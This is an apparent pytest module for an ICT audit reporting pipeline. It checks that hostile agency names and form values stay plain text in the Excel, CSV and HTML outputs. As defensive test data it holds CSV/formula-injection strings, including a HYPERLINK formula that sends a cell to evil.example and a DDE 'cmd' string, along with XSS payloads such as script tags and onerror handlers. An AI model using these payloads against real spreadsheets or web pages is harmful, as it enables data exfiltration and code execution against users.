"""Untrusted text stays text, end to end: hostile names, notes and typed values through every step.

A small sample cycle gets agency names and notes that a spreadsheet would run (``=``, ``+``, ``-``,
``@``) or a browser would (``<script>``, ``onerror=``), and one agency's form gets such text typed
into its value cells. The pipeline steps run into ``tmp_path``; then every output is opened:
``report.xlsx`` and each confirmation workbook (no formula holds agency text, agency text is a
string cell), the scored CSVs (text Excel would run carries the apostrophe guard) and the HTML
pages (no script element and no event-handler attribute at all, the hostile text shown as text).
"""

from __future__ import annotations

import csv
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from python_calamine import CalamineWorkbook

from ictaudit.common import tables
from ictaudit.common.tables import FORMULA_START
from ictaudit.intake.forms import write_form
from ictaudit.rules.rubric import load_rubric
from ictaudit.run.pipeline import intake_step, report_step, score_step, validate_step
from ictaudit.year.sample import RUBRIC_ID, write_sample_cycle

NAMES = {
    "van-phong-ubnd-tinh": '=HYPERLINK("http://evil.example/?q="&A1,"Văn phòng UBND tỉnh")',
    "so-noi-vu": "+Sở Nội vụ",
    "so-khdt": "-Sở Kế hoạch và Đầu tư",
    "so-tai-chinh": "@Sở Tài chính",
    "tp-cao-bang": "<script>alert(1)</script> UBND thành phố Cao Bằng",
    "huyen-bao-lam": '"><img src=x onerror=alert(1)> UBND huyện Bảo Lâm',
    "bo-chqs-tinh": "=1+1 Bộ Chỉ huy Quân sự tỉnh",
}
NOTES = {"cong-an-tinh": "@SUM(1+1)", "bo-chqs-tinh": "<img src=x onerror=alert(2)> không xếp hạng"}
TYPED_AGENCY = "so-noi-vu"
TYPED = {
    "F02": "=cmd|' /C calc'!A0",
    "F03": "@SUM(1+1)",
    "F06": "<script>alert(1)</script>",
    "F07": '"><img src=x onerror=alert(1)>',
    "F08": "+1",  # read as the number 1 (a leading plus is allowed), kept as typed
    "F11": "-2",
}
READ_AS = {"F08": "1"}
HOSTILE = [*NAMES.values(), *NOTES.values(), *TYPED.values()]
# pieces no formula and no HTML tag may ever hold
MARKERS = ("cmd|", "evil.example", "SUM(1+1)", "alert(", "onerror", "<script", "=1+1 Bộ")


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    base = tmp_path_factory.mktemp("untrusted")
    cycle = write_sample_cycle(2017, base / "2017", agencies=8, seed=5)
    agencies = pd.read_csv(cycle / "agencies.csv", dtype=str, keep_default_na=False)
    assert set(NAMES) | set(NOTES) <= set(agencies["agency_id"])
    agencies["name"] = [NAMES.get(a, n) for a, n in zip(agencies["agency_id"], agencies["name"], strict=True)]
    agencies["note"] = [NOTES.get(a, n) for a, n in zip(agencies["agency_id"], agencies["note"], strict=True)]
    agencies.to_csv(cycle / "agencies.csv", index=False, lineterminator="\n")
    _retype_form(cycle, agencies.set_index("agency_id").loc[TYPED_AGENCY])
    scored, out = base / "scored", base / "out"
    intake_step(cycle, scored)
    validate_step(cycle, scored, out)
    score_step(cycle, scored)
    report_step(cycle, scored, out)
    return {"cycle": cycle, "scored": scored, "out": out}


def _retype_form(cycle: Path, agency: pd.Series) -> None:
    """The agency's form written again with its values, the hostile text typed over some of them."""
    path = cycle / "submissions" / f"{TYPED_AGENCY}.xlsx"
    rows = CalamineWorkbook.from_path(str(path)).get_sheet_by_name("Số liệu").to_python(skip_empty_area=False)
    header = next(i for i, r in enumerate(rows) if r and r[0] == "Mã")
    values = {r[0]: r[3] for r in rows[header + 1 :] if r and r[0] and r[3] != ""}
    values.update(TYPED)
    rubric = load_rubric(RUBRIC_ID)
    write_form(path, rubric, agency["group"], TYPED_AGENCY, agency["name"], 2017, values=values)


def _is_agency_text(value: str) -> bool:
    """Holds one of the hostile strings (the short ``+1``/``-2`` are numbers, checked in the CSVs)."""
    return any(h in value for h in HOSTILE if len(h) > 4)


# -- Excel: report.xlsx and the confirmation workbooks ----------------------------------------------


def _workbooks(out: Path) -> list[Path]:
    books = [out / "report.xlsx", *sorted((out / "confirmations").glob("*.xlsx"))]
    assert len(books) >= 3, books
    return books


def test_no_formula_holds_agency_text_and_agency_text_is_a_string_cell(run):
    seen: set[str] = set()
    for path in _workbooks(run["out"]):
        wb = openpyxl.load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    value = cell.value
                    if not isinstance(value, str):
                        continue
                    where = f"{path.name}!{ws.title}!{cell.coordinate}"
                    if cell.data_type == "f":
                        assert not any(m in value for m in MARKERS), (where, value)
                        assert not _is_agency_text(value), (where, value)
                    elif _is_agency_text(value):
                        assert cell.data_type == "s", (where, cell.data_type, value)
                        seen.update(h for h in HOSTILE if h in value)
    # the test means something: names (report and confirmations) and typed values (confirmation) appear
    assert set(NAMES[a] for a in ("so-noi-vu", "so-khdt", "so-tai-chinh", "tp-cao-bang", "huyen-bao-lam")) <= seen
    assert {TYPED["F02"], TYPED["F06"]} <= seen


def test_the_form_writer_keeps_typed_text_and_names_as_text(run):
    """The form the hostile agency "sent" (written by the form writer): its text cells are strings."""
    wb = openpyxl.load_workbook(run["cycle"] / "submissions" / f"{TYPED_AGENCY}.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells}
    assert {TYPED["F02"], TYPED["F03"], NAMES[TYPED_AGENCY]} <= texts


def test_formulas_only_reference_cells(run):
    """A formula of the report is built from numbers, cell references and function names only."""
    wb = openpyxl.load_workbook(run["out"] / "report.xlsx")
    formulas = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas, "report.xlsx has live formulas"
    for f in formulas:
        assert "|" not in f and "!A0" not in f and "HYPERLINK" not in f.upper() and "http" not in f, f


# -- CSV: the scored tables ---------------------------------------------------------------------------


def _csv_cells(scored: Path):
    for path in sorted(scored.rglob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for line, row in enumerate(csv.reader(fh), start=1):
                for cell in row:
                    yield path.name, line, cell


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_text_that_excel_would_run_carries_the_apostrophe(run):
    guarded = set()
    for name, line, cell in _csv_cells(run["scored"]):
        if cell.startswith(FORMULA_START):
            assert _is_number(cell), (name, line, cell)  # only numbers such as -0.5 start that way
        if cell.startswith("'") and cell[1:].startswith(FORMULA_START):
            guarded.add(cell[1:])
    hostile_starts = {h for h in HOSTILE if h.startswith(FORMULA_START)}
    expected = {NAMES[a] for a in ("van-phong-ubnd-tinh", "so-noi-vu", "so-khdt", "so-tai-chinh")}
    expected |= {TYPED[f] for f in ("F02", "F03", "F08", "F11")}
    assert expected <= guarded, expected - guarded
    assert guarded <= hostile_starts | {g for g in guarded if any(h in g for h in hostile_starts)}


def test_typed_hostile_values_are_problems_kept_as_typed(run):
    values = pd.read_csv(run["scored"] / "values_submitted.csv", dtype=str, keep_default_na=False,
                         encoding="utf-8-sig").set_index(["agency_id", "field"])  # fmt: skip
    for field, typed in TYPED.items():
        raw = values.loc[(TYPED_AGENCY, field), "raw_value"]
        assert raw in (typed, "'" + typed), (field, raw)
        assert values.loc[(TYPED_AGENCY, field), "value"] == READ_AS.get(field, ""), field  # never a formula result
    problems = pd.read_csv(run["scored"] / "intake_problems.csv", dtype=str, keep_default_na=False,
                           encoding="utf-8-sig")  # fmt: skip
    mine = problems[problems["agency_id"] == TYPED_AGENCY]
    assert set(mine["field"]) == set(TYPED) - set(READ_AS) and set(mine["code"]) == {"I01"}


# -- HTML: the report and the agency pages --------------------------------------------------------------


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.scripts: list[str] = []
        self.handlers: list[tuple[str, str, str]] = []
        self.urls: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag == "script":
            self.scripts.append(tag)
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append((tag, name, value or ""))
            if name in ("href", "src", "action") and value and value.strip().lower().startswith(("javascript:", "http")):
                self.urls.append(value)
            if tag == "img" and name == "src" and value == "x":
                self.handlers.append((tag, name, value))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)


def _pages(out: Path) -> list[Path]:
    pages = [out / "report.html", *sorted((out / "agencies").glob("*.html"))]
    assert len(pages) >= 5
    return pages


def test_no_script_element_or_event_handler_came_from_agency_text(run):
    shown: set[str] = set()
    for page in _pages(run["out"]):
        parser = _Collector()
        parser.feed(page.read_text(encoding="utf-8"))
        parser.close()
        assert parser.scripts == [], page.name
        assert parser.handlers == [], (page.name, parser.handlers)
        assert not [u for u in parser.urls if "evil.example" in u], page.name
        text = "".join(parser.text)
        shown.update(h for h in HOSTILE if h in text)
    # the hostile names are shown to the reader as the text they are
    for agency_id in ("tp-cao-bang", "huyen-bao-lam", "van-phong-ubnd-tinh", "so-noi-vu"):
        assert NAMES[agency_id] in shown, agency_id


def test_the_rest_of_the_cycle_is_processed(run):
    scores = tables.read_csv(run["scored"] / "scores.csv")  # the table reader undoes the CSV guard
    ranked = scores[scores["status"] == "ranked"]
    assert len(ranked) == 6 and (ranked["rank"] != "").all()
    names = dict(zip(scores["agency_id"], scores["agency_name"], strict=True))
    assert names["tp-cao-bang"] == NAMES["tp-cao-bang"]
    assert names["so-noi-vu"] == NAMES["so-noi-vu"]  # written guarded, read back exactly as typed


def test_confirmation_workbook_shows_agency_text_exactly_as_typed(run):
    wb = openpyxl.load_workbook(run["out"] / "confirmations" / f"{TYPED_AGENCY}.xlsx")
    texts = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    guarded = [t for t in texts if any(f"'{h}" in t for h in HOSTILE if h.startswith(FORMULA_START))]
    assert guarded == []
